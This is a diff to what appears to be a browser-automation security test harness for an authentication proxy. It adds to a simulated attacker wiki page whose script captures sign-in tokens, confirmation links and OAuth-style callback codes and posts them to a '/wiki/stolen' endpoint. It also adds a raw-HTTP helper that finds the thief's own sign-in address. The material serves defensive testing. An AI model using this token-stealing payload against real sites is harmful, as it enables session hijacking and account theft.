@@ -5,6 +5,7 @@
 import { setTimeout as sleep } from 'node:timers/promises'
 import type { BrowserContext, Page } from 'playwright-core'
 import { CHROMIUM, signInAs } from '../clients/chromium.ts'
+import { RawConnection } from '../clients/raw-http.ts'
 import type { OpenIdProvider } from '../op/openid-provider.ts'
 import type { Credentials } from '../op/user-agent.ts'
 import type { EchoOrigin } from '../origin/echo-origin.ts'
@@ -25,12 +26,14 @@ const LINK = /https?:\/\/[^\s"]+(\/\.torhaus\/confirm\/[A-Z2-7]{4}-[A-Z2-7]{4})/
 const pageWith = (
   link: string,
   path: string,
+  ofThief: string,
   script: string,
 ) => `<!doctype html><title>wiki</title><body><script type="module">
 const here = '${path}'
+const ofThief = '${ofThief}'
 let path = new URL('${link}').origin === location.origin ? here : '${link}'
 const wait = ms => new Promise(resolve => setTimeout(resolve, ms))
-const steal = text => /name="token"|You are signed in|Confirm this access|handed-over?code=/.test(text) && fetch('/wiki/stolen', { method: 'POST', body: text })
+const steal = text => /name="token"|You are signed in|Confirm this access|(handed-over|callback)[?]code=/.test(text) && fetch('/wiki/stolen', { method: 'POST', body: text })
 const send = text => fetch(path, { method: 'POST', body: new URLSearchParams({ token: /name="token" value="([^"]+)"/.exec(text)?.[1] ?? '' }) })
 try {
   ${script}
@@ -67,7 +70,7 @@ export async function startVictim(
       const [link, path] = LINK.exec(await theft()) ?? []
       if (link === undefined || path === undefined) return
       const page = await signedIn(context, `${publicUrl}/wiki/`, user)
-      serve(origin, pageWith(link, path, script), fields)
+      serve(origin, pageWith(link, path, await signInOfThief(publicUrl), script), fields)
       await page.goto(publicUrl + PAGE).catch(() => undefined)
       await Promise.race([page.waitForFunction('document.title === "done"').catch(() => undefined), sleep(TRY_MS)])
       for (const open of context.pages()) await open.close()
@@ -75,6 +78,20 @@ export async function startVictim(
     },
     [Symbol.asyncDispose]: () => browser.close(),
   }
+}
+
+/**
+ * The address at which a sign-in of the thief's own browser goes on: the OP, or the hand-over of the session to it. Whoever
+ * opens it is signed in there, and nowhere else.
+ */
+async function signInOfThief(publicUrl: string): Promise<string> {
+  const { host, port } = new URL(publicUrl)
+  const connection = await RawConnection.open(Number(port))
+  connection.send(`GET /.torhaus/sign-in?return_to=/wiki/x HTTP/1.1\r\nHost: ${host}\r\n\r\n`)
+  const response = await connection.response().finally(() => connection.close())
+  const next = new URL(response.one('Location') ?? '')
+  const handOver = next.searchParams.get('return_to')
+  return handOver === null ? next.href : next.origin + handOver
 }
 
 async function signedIn(context: BrowserContext, home: string, user: Credentials): Promise<Page> {
